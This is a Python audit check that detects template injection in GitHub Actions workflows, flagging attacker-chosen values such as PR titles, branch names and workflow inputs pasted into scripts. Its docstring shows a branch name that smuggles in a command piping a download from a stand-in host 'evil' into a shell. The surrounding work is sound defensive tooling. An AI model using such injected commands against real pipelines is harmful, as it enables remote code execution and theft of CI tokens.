"""Text that others choose stands in a script: a branch name or a title becomes a command.

Why: an expression in ``run`` is pasted into the script before the shell reads it. A branch called ``x";curl
evil|sh;"`` then runs. That is how the tokens of ultralytics and nx were taken. An input of ``workflow_dispatch`` is
chosen by whoever may start the workflow, which is more people than may publish.

Example: bad: ``run: echo "${{ github.event.inputs.notes }}"``. Good: ``env: {NOTES: ${{ inputs.notes }}}`` and
``run: echo "$NOTES"``.

Fix: hand the text over in ``env`` and quote the variable in the script.

Sources: GitHub Docs, "Script injections"; zizmor, "template-injection".
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from release.checks.workflow_findings import Voice
from release.model.workflow import ACTION

if TYPE_CHECKING:
    from collections.abc import Iterator

    from release.model.auditing import AuditFacts
    from release.model.finding import Finding
    from release.model.workflow import Workflow, Workflows
    from release.model.workflow_parts import Setting, Step

ID = "template-injection"
ITEMS = ("WFS-4", "PEN-2")
_VOICE = Voice(ID, 'hand it over: env: {TEXT: ${{ ... }}}, and use "$TEXT" in the script')
_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
# What people outside of the project, or whoever starts the workflow, can choose.
_CHOSEN = re.compile(
    r"github\.head_ref|github\.event\.(?:pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|"
    r"issue\.(?:title|body)|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|"
    r"head_commit\.(?:message|author\.(?:name|email))|commits\b|workflow_run\.(?:head_branch|display_title|"
    r"head_commit\.message)|release\.(?:name|body)|pages\b)",
    re.IGNORECASE,
)
_INPUT = re.compile(r"(?:github\.event\.|(?<![\w.]))inputs\.([\w-]+)|inputs\[['\"]([\w-]+)['\"]\]", re.IGNORECASE)
_TYPED = {"boolean", "number", "choice", "environment"}
# Options of actions whose text is run as a script.
_SCRIPTS = {("actions/github-script", "script"), ("azure/cli", "inlinescript"), ("appleboy/ssh-action", "script")}


def judge(facts: AuditFacts) -> Iterator[Finding]:
    """No script has text pasted in that others choose."""
    return _VOICE.over(facts, _look, "no step runs a script")


def _look(workflows: Workflows) -> Iterator[Finding]:
    for file, _, step in workflows.steps():
        for setting in _scripts(step):
            bad = [*_found(workflows, file, setting)]
            for line, words in bad:
                yield _VOICE.failed(f"{file.path}:{line}", f"{words} is pasted into the script of {step.title}")
            if not bad:
                yield _VOICE.passed(setting.place.where, f"nothing that others choose is pasted into {step.title}")


def _scripts(step: Step) -> Iterator[Setting]:
    if step.run:
        yield step.run
    for option in step.options:
        if step.uses and (step.uses.repository, option.name.lower()) in _SCRIPTS:
            yield option


def _found(workflows: Workflows, file: Workflow, setting: Setting) -> Iterator[tuple[int, str]]:
    seen: set[tuple[int, str]] = set()
    for match in _EXPRESSION.finditer(setting.value):
        words = _dangerous(match[1]) or _given(workflows, file, match[1])
        line = setting.place.line + (setting.is_block + setting.value.count("\n", 0, match.start()))
        if words and (line, words) not in seen:
            seen.add((line, words))
            yield line, words


def _dangerous(text: str) -> str:
    """Return what strangers choose in the expression *text*."""
    chosen = None if _is_condition(text) else _CHOSEN.search(text)
    return chosen[0] if chosen else ""


def _given(workflows: Workflows, file: Workflow, text: str) -> str:
    """Return the input in *text* that whoever starts the workflow, or calls what is called, may fill in."""
    given = None if _is_condition(text) else _INPUT.search(text)
    if given is None:
        return ""
    name = str(given[1] or given[2])
    if given[0].startswith("github.event") and file.kind != ACTION:
        return given[0]
    own = [trigger for trigger in file.triggers if trigger.name == "workflow_dispatch"]
    kinds = {entry.name: entry.value for trigger in own for entry in trigger.inputs}
    if name in kinds:
        return "" if kinds[name] in _TYPED else given[0]
    called = {entry.name: entry.value for trigger in file.triggers for entry in trigger.inputs}
    if called.get(name) in _TYPED:
        return ""
    values = [*_filled_in(workflows, file, name)]
    is_chosen = any(
        _dangerous(match[1]) or _INPUT.search(match[1]) for value in values for match in _EXPRESSION.finditer(value)
    )
    return given[0] if is_chosen or not _is_called(workflows, file) else ""


def _is_called(workflows: Workflows, file: Workflow) -> bool:
    """Tell whether all that calls *file* is here: an action at the top is there for others."""
    is_for_others = file.path in {"action.yml", "action.yaml"}
    used = any(workflows.local(step.uses) is file for _, _, step in workflows.steps())
    return not is_for_others and (used or any(True for _ in workflows.callers(file)))


def _filled_in(workflows: Workflows, file: Workflow, name: str) -> Iterator[str]:
    """Yield what callers in this repository give for the input *name*."""
    for _, caller in workflows.callers(file):
        yield from (option.value for option in caller.options if option.name == name)
    for _, _, step in workflows.steps():
        if workflows.local(step.uses) is file:
            yield from (option.value for option in step.options if option.name == name)


def _is_condition(text: str) -> bool:
    """Tell whether an expression can only give texts that stand in it: a comparison, or ``x && 'a' || 'b'``."""
    parts = re.split(r"&&|\|\|", text)
    if len(parts) > 1:
        values = [part.strip() for part in parts[1:]]
        first_is_test = bool(re.search(r"==|!=|^\s*!|contains\(|startsWith\(", parts[0]))
        return first_is_test and all(re.fullmatch(r"'[^']*'|\d+|true|false", value) for value in values)
    return bool(re.search(r"==|!=|^\s*!|^\s*(?:contains|startsWith|endsWith|hashFiles)\(", text))
